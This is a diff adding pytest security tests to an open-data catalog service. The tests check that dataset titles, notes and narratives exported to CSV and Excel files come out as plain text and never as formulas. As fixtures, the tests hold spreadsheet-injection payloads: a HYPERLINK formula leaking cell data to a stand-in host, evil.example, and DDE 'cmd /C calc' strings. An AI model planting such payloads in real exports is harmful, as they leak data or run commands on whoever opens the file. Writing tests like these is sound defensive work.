@@ -6,15 +6,23 @@ Each test is one attack: what the attacker enters, and what the site now answers
 
 from __future__ import annotations
 
+import csv
+import json
 import re
+import zipfile
+from pathlib import Path
 
 import pytest
 from fastapi.testclient import TestClient
+from openpyxl import load_workbook
 from sqlmodel import select
 
 from catalog.models import Dataset, Resource, ResourceKind
+from dictionaries.excel import export_xlsx, import_xlsx
+from dictionaries.model import Dictionary
 from tests.conftest import OpenContext
 from tests.security.conftest import ORG_A, TokenFor
+from tests.services.test_cli import banchi
 
 PUBLIC_A = "city-development-indicators"  # a public dataset of A
 SECRETARY = "steward.hrd@bangkok.go.th"  # a person of A on record, secretary of its working group
@@ -89,3 +97,81 @@ def test_a_script_link_stored_before_the_checks_is_not_rendered_as_a_link(
         schemes = {found.group(1).lower() for link in links
                    if (found := re.match(r"\s*([a-z][a-z0-9+.-]*):", link, re.I))}
         assert schemes <= {"http", "https", "mailto"} and "#" in links  # mailto: from checked emails
+
+
+# -- spreadsheets: text that a spreadsheet would run ----------------------------------------------------
+
+FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"เปิด")'
+FORMULA_NOTES = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def _formula_cells(path: Path) -> list[str]:
+    """The workbook's sheets holding a formula element (none may come from people's text)."""
+    with zipfile.ZipFile(path) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
+        return [name for name in sheets if re.search(rb"<f[ >]", archive.read(name))]
+
+
+def _retitle_with_formulas(client: TestClient, token_for: TokenFor) -> None:
+    steward = token_for("steward@bangkok.go.th", "steward", org=ORG_A)
+    edited = client.patch(f"/api/datasets/{PUBLIC_A}", headers={**steward, "If-Match": "*"},
+                          json={"title": FORMULA_TITLE, "notes": FORMULA_NOTES})
+    assert edited.status_code == 200, edited.text
+
+
+@pytest.mark.parametrize("layout", ["template", "gdc-export"])
+def test_a_formula_title_is_text_in_the_catalog_workbook(client: TestClient, token_for: TokenFor, tmp_path: Path,
+                                                         layout: str) -> None:
+    _retitle_with_formulas(client, token_for)
+    path = tmp_path / "catalog.xlsx"
+    code, _, err = banchi("catalog", "export", str(path), "--org", ORG_A, "--layout", layout)
+    assert code == 0, err
+    assert _formula_cells(path) == []
+    cells = [cell for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for cell in row]
+    titled = [cell for cell in cells if cell.value == FORMULA_TITLE]
+    assert titled and all(cell.data_type == "s" and cell.quotePrefix for cell in titled)  # text, exactly as entered
+    if layout == "template":  # and it reads back unchanged: importing the export changes nothing
+        code, out, err = banchi("catalog", "import", str(path), "--dry-run", "--format", "json")
+        assert code == 0, err + out
+        assert json.loads(out)["datasets_updated"] == []
+
+
+def test_a_formula_title_is_quoted_in_the_catalog_csv(client: TestClient, token_for: TokenFor, tmp_path: Path) -> None:
+    _retitle_with_formulas(client, token_for)
+    path = tmp_path / "catalog.csv"
+    code, _, err = banchi("catalog", "export", str(path), "--org", ORG_A)
+    assert code == 0, err
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    [row] = [r for r in rows if r["name"] == PUBLIC_A]
+    assert row["title"] == "'" + FORMULA_TITLE and row["notes"] == "'" + FORMULA_NOTES
+    assert row["version"].isdigit()  # numbers stay numbers
+    for cell in (value for r in rows for value in r.values()):
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not (cell.startswith("-") and not
+                                                                         cell.lstrip("-").replace(".", "").isdigit())
+
+
+def test_a_formula_narrative_or_title_is_text_in_the_xlsx_report(client: TestClient, token_for: TokenFor,
+                                                                  tmp_path: Path) -> None:
+    _retitle_with_formulas(client, token_for)
+    admin = token_for("admin@bangkok.go.th", "admin", org=ORG_A)
+    narrative = "=1+1"
+    saved = client.put(f"/api/organizations/{ORG_A}/narratives/2564/1", headers={**admin, "If-Match": "*"},
+                       json={"text": narrative})
+    assert saved.status_code == 200, saved.text
+    report = client.get(f"/api/organizations/{ORG_A}/report.xlsx", params={"fy": 2564}, headers=admin)
+    assert report.status_code == 200
+    path = tmp_path / "report.xlsx"
+    path.write_bytes(report.content)
+    assert _formula_cells(path) == []
+    values = {cell.value for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for cell in row}
+    assert narrative in values and FORMULA_TITLE in values
+
+
+def test_a_formula_field_title_is_text_in_the_dictionary_workbook(tmp_path: Path) -> None:
+    dictionary = Dictionary.from_table_schema({"fields": [
+        {"name": "district", "title": "=cmd|' /C calc'!A0", "type": "string", "description": "+1+1"}]})
+    path = export_xlsx(dictionary, tmp_path / "dictionary.xlsx")
+    assert _formula_cells(path) == []
+    read = import_xlsx(path)
+    assert read.fields[0].title == "=cmd|' /C calc'!A0"
